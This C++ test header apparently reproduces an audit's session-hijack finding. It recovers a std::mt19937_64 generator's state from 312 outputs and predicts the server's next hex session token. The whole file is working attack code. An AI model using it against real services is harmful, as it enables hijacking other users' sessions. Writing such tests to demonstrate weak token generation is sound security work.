#pragma once

// Recovering std::mt19937_64 from its outputs, to attack tokens made with
// it (the audit's session hijack). The tempering of mt19937_64 is
// invertible, so 312 consecutive outputs give the generator's state and
// with it every later output.

#include <cstdint>
#include <cstring>
#include <deque>
#include <string>
#include <vector>

namespace convoke::test {

inline uint64_t undo_right(uint64_t y, int shift, uint64_t mask) {
  uint64_t x = y;
  for (int i = 0; i < 64 / shift + 1; ++i)
    x = y ^ ((x >> shift) & mask);
  return x;
}

inline uint64_t undo_left(uint64_t y, int shift, uint64_t mask) {
  uint64_t x = y;
  for (int i = 0; i < 64 / shift + 1; ++i)
    x = y ^ ((x << shift) & mask);
  return x;
}

inline uint64_t untemper(uint64_t y) {
  y = undo_right(y, 43, ~uint64_t{0});
  y = undo_left(y, 37, 0xFFF7EEE000000000ull);
  y = undo_left(y, 17, 0x71D67FFFEDA60000ull);
  y = undo_right(y, 29, 0x5555555555555555ull);
  return y;
}

inline uint64_t temper(uint64_t y) {
  y ^= (y >> 29) & 0x5555555555555555ull;
  y ^= (y << 17) & 0x71D67FFFEDA60000ull;
  y ^= (y << 37) & 0xFFF7EEE000000000ull;
  y ^= y >> 43;
  return y;
}

/// Predicts the outputs of an mt19937_64 that produced `window` (>= 312
/// consecutive outputs, oldest first).
class mt_predictor {
public:
  explicit mt_predictor(const std::vector<uint64_t>& outputs) {
    for (auto y : outputs)
      push(untemper(y));
  }
  uint64_t next() {
    constexpr uint64_t upper = 0xFFFFFFFF80000000ull;
    constexpr uint64_t lower = 0x7FFFFFFFull;
    auto x0 = state_[0];
    auto x1 = state_[1];
    auto xm = state_[156];
    auto y = (x0 & upper) | (x1 & lower);
    auto x = xm ^ (y >> 1) ^ ((x1 & 1) != 0 ? 0xB5026F5AA96619E9ull : 0);
    push(x);
    return temper(x);
  }

private:
  void push(uint64_t x) {
    state_.push_back(x);
    if (state_.size() > 312)
      state_.pop_front();
  }
  std::deque<uint64_t> state_;
};

inline std::vector<uint64_t> words_of(const std::string& hex_token) {
  std::string raw;
  for (size_t i = 0; i + 1 < hex_token.size(); i += 2)
    raw.push_back(static_cast<char>(std::stoi(hex_token.substr(i, 2), nullptr, 16)));
  std::vector<uint64_t> out(raw.size() / 8);
  std::memcpy(out.data(), raw.data(), out.size() * 8);
  return out;
}

inline std::string token_of(const std::vector<uint64_t>& words) {
  static const char* digits = "0123456789abcdef";
  std::string raw(words.size() * 8, '\0');
  std::memcpy(raw.data(), words.data(), raw.size());
  std::string hex;
  for (unsigned char c : raw) {
    hex.push_back(digits[c >> 4]);
    hex.push_back(digits[c & 15]);
  }
  return hex;
}

/// Collects 312 generator outputs from hex tokens (as the server printed
/// them: raw little-endian words) and predicts the next token of the same
/// length. `next_token()` returns the tokens seen so far.
template <class NextToken>
std::string predict_next_token(NextToken next_token, size_t* tokens_seen = nullptr) {
  std::vector<uint64_t> outputs;
  size_t words_per_token = 0;
  size_t seen = 0;
  while (outputs.size() < 312) {
    auto words = words_of(next_token());
    ++seen;
    if (words.empty())
      return {};
    words_per_token = words.size();
    outputs.insert(outputs.end(), words.begin(), words.end());
  }
  if (tokens_seen)
    *tokens_seen = seen;
  mt_predictor predictor{outputs};
  std::vector<uint64_t> predicted(words_per_token);
  for (auto& w : predicted)
    w = predictor.next();
  return token_of(predicted);
}

} // namespace convoke::test
